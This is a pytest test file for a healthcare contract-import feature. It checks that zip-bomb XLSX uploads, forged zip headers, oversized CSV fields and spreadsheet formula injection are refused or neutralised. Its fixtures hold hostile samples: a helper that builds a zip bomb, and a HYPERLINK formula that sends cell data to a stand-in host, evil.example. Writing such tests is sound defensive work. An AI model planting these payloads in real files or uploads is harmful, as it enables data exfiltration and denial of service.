"""The import against hostile files (issue 9): a zip-bomb XLSX is refused before it is parsed
(item 5), a CSV field over the csv module's limit is that row's error, not a 500 (item 6), the
row errors are streamed rather than all kept (item 17), and what an error report echoes of the
file cannot run as a spreadsheet formula (item 17)."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import tracemalloc
import zipfile

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import Workbook, load_workbook

from healthnet.errors import InvalidInput
from healthnet.national_id import decrypt_national_id
from signing.importer import API_MAX_ERRORS, contracts_import
from signing.importer.report import ErrorReportWriter
from signing.models import Contract
from tests.conftest import api_client_for
from tests.factories import ResidentFactory, national_id_for
from tests.signing.helpers import years_ago

HEADER = ["national_id", "team_code", "start_date", "end_date", "packages", "signed_method"]
MB = 1024 * 1024


def _id_of(resident) -> str:
    return decrypt_national_id(resident.national_id_encrypted)


def _csv(rows, header=HEADER) -> io.BytesIO:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerows(rows)
    return io.BytesIO(text.getvalue().encode("utf-8"))


def _workbook_bytes(rows=()) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _with_member(xlsx: bytes, name: str, chunks) -> io.BytesIO:
    """The workbook with one member replaced (or added), its content streamed from `chunks`."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info.filename))
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with target.open(info, "w") as member:
            for chunk in chunks:
                member.write(chunk)
    out.seek(0)
    return out


def _bomb(uncompressed_mb: int) -> io.BytesIO:
    """A real workbook whose shared-string table holds one string of `uncompressed_mb` MB of
    "A": a few tens of KB on disk (a ratio of ~1000), what the XLSX reader loads whole."""

    def chunks():
        yield b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
        for _ in range(uncompressed_mb):
            yield b"A" * MB
        yield b"</t></si></sst>"

    return _with_member(
        _workbook_bytes([["x", "t-01", "2026-01-01"]]), "xl/sharedStrings.xml", chunks()
    )


# --- 9.5: zip bombs ------------------------------------------------------------------------


def test_a_zip_bomb_xlsx_is_refused_before_it_is_parsed(team):
    bomb = _bomb(40)
    assert len(bomb.getvalue()) < 200 * 1024  # a small upload

    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput) as refused:
            contracts_import(actor=None, file=bomb, filename="bomb.xlsx")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert refused.value.code == "xlsx_compression_ratio"
    assert refused.value.details["field"] == "file"
    assert refused.value.details["limit"] == 100
    assert refused.value.details["ratio"] > 100
    # Refused from the archive's directory: the 40 MB string was never decompressed.
    assert peak < 8 * MB
    assert Contract.objects.count() == 0


def test_an_archive_too_large_once_uncompressed_is_refused_at_a_normal_ratio(team, settings):
    """Incompressible-looking content (ratio ~1) over the uncompressed limit: refused by size."""
    settings.SIGNING_IMPORT_XLSX_MAX_UNCOMPRESSED_BYTES = 2 * MB
    noise = bytes(range(256)) * 4096  # 1 MB, ratio well under 100
    chunks = [
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>',
        *(noise.hex().encode()[: MB // 2] for _ in range(6)),
        b"</t></si></sst>",
    ]
    big = _with_member(_workbook_bytes(), "xl/sharedStrings.xml", chunks)

    with pytest.raises(InvalidInput) as refused:
        contracts_import(actor=None, file=big, filename="big.xlsx")

    assert refused.value.code == "xlsx_too_large"
    assert refused.value.details["limit"] == 2 * MB


def test_a_shared_string_table_over_its_own_limit_is_refused(team, settings):
    """The one part the reader holds in memory whole has a lower limit than the whole."""
    settings.SIGNING_IMPORT_XLSX_MAX_SHARED_STRINGS_BYTES = MB
    noise = bytes(range(256)) * 4096
    chunks = [
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>',
        *(noise.hex().encode()[: MB // 2] for _ in range(3)),
        b"</t></si></sst>",
    ]
    big = _with_member(_workbook_bytes(), "xl/sharedStrings.xml", chunks)

    with pytest.raises(InvalidInput) as refused:
        contracts_import(actor=None, file=big, filename="strings.xlsx")

    assert refused.value.code == "xlsx_too_large"
    assert refused.value.details["shared_strings_limit"] == MB
    assert refused.value.details["shared_strings_bytes"] > MB


def test_an_archive_of_too_many_parts_is_refused_from_its_end_record(team):
    many = _workbook_bytes()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(many)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        for n in range(1001):
            target.writestr(f"xl/media/x{n}.bin", b"")
    out.seek(0)

    with pytest.raises(InvalidInput) as refused:
        contracts_import(actor=None, file=out, filename="parts.xlsx")

    assert refused.value.code == "xlsx_too_many_parts"
    assert refused.value.details["parts"] == 1001 + len(
        zipfile.ZipFile(io.BytesIO(many)).namelist()
    )


def test_a_member_that_lies_about_its_size_is_never_decompressed_past_it(team):
    """The check trusts the declared sizes because the reader does too: zipfile yields no more
    than a member's declared size (and then fails its CRC). A 40 MB bomb declaring 1 KB passes
    the check and is read as 1 KB."""
    honest = _bomb(40).getvalue()
    name = b"xl/sharedStrings.xml"
    with zipfile.ZipFile(io.BytesIO(honest)) as source:
        local = source.getinfo(name.decode()).header_offset
    forged = bytearray(honest)
    small = (1024).to_bytes(4, "little")
    forged[local + 22 : local + 26] = small  # the local header's uncompressed size
    central = forged.find(b"PK\x01\x02")
    while forged[central + 46 : central + 46 + len(name)] != name:
        central = forged.find(b"PK\x01\x02", central + 4)
    forged[central + 24 : central + 28] = small  # the central directory's

    tracemalloc.start()
    try:
        with contextlib.suppress(InvalidInput):
            contracts_import(actor=None, file=io.BytesIO(bytes(forged)), filename="liar.xlsx")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert peak < 8 * MB


def test_a_claimed_dimension_is_not_padded_out(team, primary):
    """A sheet claiming A1:XFD1048576 would have the reader pad every row to 16,384 columns and
    yield a million empty rows; the import reads the cells that are there."""
    resident = ResidentFactory(birth_date=years_ago(40), registered_by=primary)
    xlsx = _workbook_bytes([[_id_of(resident), "t-01", dt.date.today().isoformat()]])
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source:
        sheet = source.read("xl/worksheets/sheet1.xml").decode()
    start = sheet.index("<dimension ref=")
    end = sheet.index("/>", start) + 2
    claimed = sheet[:start] + '<dimension ref="A1:XFD1048576"/>' + sheet[end:]
    file = _with_member(xlsx, "xl/worksheets/sheet1.xml", [claimed.encode()])
    totals = []

    report = contracts_import(actor=None, file=file, filename="claims.xlsx", on_total=totals.append)

    assert (report.rows, report.created, report.error_count) == (1, 1, 0)
    assert totals == [1_048_575]  # the claim is only the progress bar's estimate


# --- 9.6: a CSV field over the csv module's limit ---------------------------------------------


def test_a_csv_field_over_the_limit_is_that_rows_error_and_the_rest_lands(team, primary):
    before = ResidentFactory(birth_date=years_ago(40), registered_by=primary)
    after = ResidentFactory(birth_date=years_ago(41), registered_by=primary)
    start = dt.date.today().isoformat()
    limit = csv.field_size_limit()
    file = _csv(
        [
            [_id_of(before), "t-01", start, "", "", ""],
            [_id_of(after), "t-01", start, "", "x" * (limit + 1), ""],
            [_id_of(after), "t-01", start, "", "", ""],
        ]
    )

    report = contracts_import(actor=None, file=file, filename="long.csv")

    assert [(e.row, e.field, e.code) for e in report.errors] == [(3, "", "field_too_long")]
    assert str(limit) in report.errors[0].message
    assert (report.rows, report.created) == (3, 2)


def test_the_api_answers_a_csv_field_over_the_limit_with_a_row_error(admin, team, primary):
    resident = ResidentFactory(birth_date=years_ago(40), registered_by=primary)
    content = _csv(
        [
            ["1" * 200_000, "t-01", "2026-01-01", "", "", ""],
            [_id_of(resident), "t-01", dt.date.today().isoformat(), "", "", ""],
        ]
    )
    content.name = "long.csv"

    response = Client().post(
        "/api/v1/contracts/import",
        {"file": content},
        headers={"Authorization": f"Bearer {api_client_for(admin).token}"},
    )

    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["created"], body["error_count"]) == (1, 1)
    assert (body["errors"][0]["row"], body["errors"][0]["code"]) == (2, "field_too_long")


def test_a_header_over_the_limit_refuses_the_file(team):
    file = _csv([], header=["national_id", "team_code", "start_date", "x" * 200_000])

    with pytest.raises(InvalidInput) as refused:
        contracts_import(actor=None, file=file, filename="header.csv")

    assert (refused.value.code, refused.value.details["field"]) == ("field_too_long", "file")


# --- 9.17: row errors streamed, not kept ------------------------------------------------------


def test_every_row_error_is_streamed_and_only_the_first_ones_are_kept(team):
    bad = API_MAX_ERRORS + 250
    rows = [[f"15030219800101{n:04d}", "t-01", "2026-01-01", "", "", ""] for n in range(bad)]
    streamed = []

    report = contracts_import(
        actor=None, file=_csv(rows), filename="bad.csv", chunk_size=300, on_error=streamed.append
    )

    assert report.error_count == bad
    assert len(report.errors) == API_MAX_ERRORS
    assert report.errors_truncated
    assert [e.row for e in streamed] == list(range(2, bad + 2))  # every one, in row order
    assert report.errors == streamed[:API_MAX_ERRORS]


def test_the_api_counts_every_error_and_lists_the_first_thousand(admin, team):
    bad = API_MAX_ERRORS + 5
    content = _csv(
        [[f"15030219800101{n:04d}", "t-01", "2026-01-01", "", "", ""] for n in range(bad)]
    )
    content.name = "bad.csv"

    response = Client().post(
        "/api/v1/contracts/import",
        {"file": content},
        headers={"Authorization": f"Bearer {api_client_for(admin).token}"},
    )

    body = response.json()
    assert (body["error_count"], len(body["errors"]), body["errors_truncated"]) == (
        bad,
        API_MAX_ERRORS,
        True,
    )


# --- 9.17: what a report echoes cannot run as a formula ----------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_the_error_report_neutralises_echoed_cells_and_masks_id_numbers(team):
    rows = [
        ["150302198001010000", "t-01", "2026-01-01", "", "", ""],  # bad checksum
        [national_id_for(1), HOSTILE, "2026-01-01", "", "", ""],  # unknown team
        [national_id_for(2), "t-01", "2026-01-01", "", "", "@SUM(1+1)"],  # unknown method
    ]
    writer = ErrorReportWriter()

    report = contracts_import(actor=None, file=_csv(rows), filename="x.csv", on_error=writer.add)
    out = io.BytesIO()
    writer.save(out)
    out.seek(0)
    sheet = load_workbook(out).active
    cells = [list(row) for row in sheet.iter_rows(min_row=2)]

    assert report.error_count == 3
    values = {row[1].value: row[4] for row in cells}
    assert values["national_id"].value == "1503**********0000"
    assert values["team_code"].value == "'" + HOSTILE
    assert values["signed_method"].value == "'@SUM(1+1)"
    assert all(cell.data_type == "s" for row in cells for cell in row[1:])
    assert [row[0].value for row in cells] == [2, 3, 4]


def test_the_commands_errors_csv_is_streamed_and_neutralised(team, tmp_path):
    path = tmp_path / "contracts.csv"
    path.write_bytes(_csv([[national_id_for(1), HOSTILE, "2026-01-01", "", "", ""]]).getvalue())
    errors_path = tmp_path / "errors.csv"

    call_command(
        "import_contracts", str(path), "--errors-csv", str(errors_path), stdout=io.StringIO()
    )

    with errors_path.open(encoding="utf-8-sig") as handle:
        (row,) = list(csv.DictReader(handle))
    assert (row["row"], row["field"], row["code"]) == ("2", "team_code", "team_unknown")
    assert row["value"] == "'" + HOSTILE
